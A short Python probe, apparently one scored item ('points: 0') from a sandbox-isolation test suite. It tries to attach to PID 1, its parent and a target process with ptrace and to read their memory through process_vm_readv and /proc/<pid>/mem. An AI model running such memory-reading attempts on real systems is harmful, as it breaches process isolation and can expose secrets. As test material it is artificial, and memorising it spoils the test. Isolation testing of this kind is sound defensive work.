"""Attaches to its parents and reads their memory, through every door that the kernel has.

points: 0
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
for process in {1, os.getppid(), FACTS["process"]} - {0, os.getpid()}:
    if (
        libc.ptrace(PTRACE_ATTACH, process, 0, 0) == 0
        or libc.ptrace(PTRACE_SEIZE, process, 0, 0) == 0
    ):
        print("GOT hold of", process)
    pair = (ctypes.c_void_p * 2)(ctypes.addressof(room), 4096)
    if libc.process_vm_readv(process, pair, 1, pair, 1, 0) > 0:
        print("GOT memory of", process)
    try:
        with open(f"/proc/{process}/mem", "rb") as memory:
            memory.seek(0x400000)
            print("GOT", memory.read(16))
    except OSError:
        pass
